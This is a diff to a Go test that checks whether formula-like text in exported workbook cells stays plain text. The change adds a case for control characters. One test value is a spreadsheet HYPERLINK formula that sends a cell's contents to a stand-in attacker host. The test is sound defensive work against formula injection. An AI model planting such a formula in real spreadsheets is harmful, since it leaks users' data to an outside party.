@@ -184,7 +184,11 @@ func TestWorkbookFormulaLikeTextIsText(t *testing.T) {
 	m.Risks[0].Title = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
 	m.Assets[0].Notes = "+1-555-0100"
 	m.Tasks[0].Title = "@SUM(1,2)"
+	m.Flows[0].Description = "-2+3 and a control \x01 character"
 	f, _ := openWorkbook(t, m)
+	if got, want := cellOf(t, f, SheetFlows, "Description", 0), "-2+3 and a control \uFFFD character"; got != want {
+		t.Errorf("flow description = %q, want %q", got, want)
+	}
 	for _, c := range []struct{ sheet, head string }{{SheetRegister, "Risk"}, {SheetInventory, "Notes"}, {SheetPlan, "Title"}} {
 		rows, _ := f.GetRows(c.sheet)
 		col := slices.Index(rows[0], c.head)
